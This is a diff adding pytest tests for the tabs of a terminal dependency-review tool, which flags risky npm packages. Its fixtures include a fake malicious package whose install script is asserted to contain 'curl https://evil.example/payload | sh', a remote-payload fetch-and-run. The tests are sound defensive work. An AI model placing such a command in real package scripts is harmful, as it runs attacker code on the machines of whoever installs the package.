@@ -1,0 +1,132 @@
+"""Detail tabs load lazily in workers: a spinner while waiting, errors in place."""
+
+from __future__ import annotations
+
+import asyncio
+import json
+from pathlib import Path
+
+from textual.widgets import Static
+from tui_helpers import FakeProvider, rendered_text, settle
+
+from reviewer.graph.model import Edge, Graph, Importer, LockfileInfo, Package
+from reviewer.session import ReviewSession
+from reviewer.tui.screens.main import MainScreen
+from reviewer.tui.screens.summary import SummaryScreen
+
+SIZE = (150, 45)
+DOCUMENTS = Path(__file__).resolve().parent.parent / "data" / "registry" / "documents"
+
+
+async def main_screen(pilot) -> MainScreen:
+    await pilot.pause()
+    if isinstance(pilot.app.screen, SummaryScreen):
+        await pilot.press("s")
+        await pilot.pause()
+    assert isinstance(pilot.app.screen, MainScreen)
+    return pilot.app.screen
+
+
+async def test_tabs_load_only_when_opened_with_a_spinner(make_app, make_session):
+    provider = FakeProvider()
+    provider.gate = asyncio.Event()
+    app = make_app(make_session(provider=provider))
+    async with app.run_test(size=SIZE) as pilot:
+        main = await main_screen(pilot)
+        await pilot.pause(0.1)
+        assert main.detail.key == "evil-scripts@1.0.0"
+        overview = main.detail.query_one("#body-overview", Static)
+        assert overview.loading  # waiting for the packument
+        assert not any(call.startswith("tarball") for call in provider.calls)
+        await pilot.press("right_square_bracket")  # the Scripts tab
+        await pilot.pause(0.1)
+        scripts = main.detail.query_one("#body-scripts", Static)
+        assert scripts.loading
+        assert app.is_running and main.table.row_count == 8  # the UI is not blocked
+        await pilot.press("down", "up")
+        provider.gate.set()
+        await settle(pilot)
+        assert not scripts.loading
+        assert "tarball evil-scripts@1.0.0" in provider.calls
+        text = rendered_text(scripts)
+        assert "postinstall" in text and "node install.js" in text
+        assert "install.js" in text and "curl https://evil.example/payload" in text
+        assert "line 2" in text  # the suspicious line, with the rule that matched
+        assert "[@click=app.quit]done" in text  # file content shown literally
+
+
+async def test_each_tab_renders_for_the_selected_package(make_app):
+    app = make_app()
+    async with app.run_test(size=SIZE) as pilot:
+        main = await main_screen(pilot)
+        await settle(pilot)
+        expectations = {
+            "overview": ["evil-scripts@1.0.0", "Why is it here", "shop → evil-scripts"],
+            "scripts": ["postinstall"],
+            "maintainers": ["mallory", "0.9.0", "new"],
+            "advisories": ["No advisories"],
+            "diff": ["evil-scripts@1.0.0 → evil-scripts@0.9.0", "removed", "install.js",
+                     "-cp.exec('curl https://evil.example/payload | sh');"],
+        }
+        for tab, needles in expectations.items():
+            main.detail.show_tab(tab)
+            await settle(pilot)
+            text = rendered_text(main.detail.query_one(f"#body-{tab}", Static))
+            for needle in needles:
+                assert needle in text, (tab, needle, text)
+        main.jump_to("left-pad@1.3.0")
+        main.detail.show_tab("advisories")
+        await settle(pilot)
+        text = rendered_text(main.detail.query_one("#body-advisories", Static))
+        assert "GHSA-1234-abcd" in text and "HIGH" in text
+
+
+async def test_a_registry_error_shows_in_place_as_text(make_app, make_session):
+    provider = FakeProvider()
+    del provider.packuments["dep-a"]
+    app = make_app(make_session(provider=provider))
+    async with app.run_test(size=SIZE) as pilot:
+        main = await main_screen(pilot)
+        main.jump_to("dep-a@1.0.0")
+        main.detail.show_tab("maintainers")
+        await settle(pilot)
+        text = rendered_text(main.detail.query_one("#body-maintainers", Static))
+        assert "Could not load" in text and "[red]boom[/red]" in text and "\\x1b[2J" in text
+        assert app.is_running
+
+
+def fixture_graph(project: Path) -> Graph:
+    graph = Graph(LockfileInfo(project / "package-lock.json", "npm", "3"))
+    root = graph.add_importer(Importer(".", "app", "1.0.0"))
+    for name, version in (("bufferutil", "4.1.0"), ("left-pad", "1.3.0")):
+        document = json.loads((DOCUMENTS / f"{name}.json").read_text())
+        integrity = document["versions"][version]["dist"]["integrity"]
+        graph.add_package(Package(name, version, integrity))
+        graph.add_edge(Edge(root.node, f"{name}@{version}", name, f"^{version}"))
+    return graph
+
+
+async def test_tabs_against_the_fixture_registry(fixture_registry, registry_config, project: Path):
+    from reviewer.registry.service import RegistryService
+    from reviewer.tui.app import ReviewerApp
+
+    service = RegistryService(registry_config())
+    session = ReviewSession(fixture_graph(project), service, project)
+    app = ReviewerApp(session, keymap_path=project / "none.toml")
+    async with app.run_test(size=SIZE) as pilot:
+        main = await main_screen(pilot)
+        await settle(pilot)
+        assert "done" in app.scan_progress
+        assert main.table.current_key == "bufferutil@4.1.0"  # an install script: riskier
+        assert any(f.id == "install-script" for f in session.findings_of("bufferutil@4.1.0"))
+        main.detail.show_tab("scripts")
+        await settle(pilot)
+        text = rendered_text(main.detail.query_one("#body-scripts", Static))
+        assert "install" in text and "node-gyp-build" in text
+        main.jump_to("left-pad@1.3.0")
+        main.detail.show_tab("maintainers")
+        await settle(pilot)
+        text = rendered_text(main.detail.query_one("#body-maintainers", Static))
+        assert "1.3.0" in text and "1.2.0" in text
+    assert fixture_registry.requests_for("/bufferutil")
+    assert fixture_registry.requests_for("/bufferutil/-/bufferutil-4.1.0.tgz")
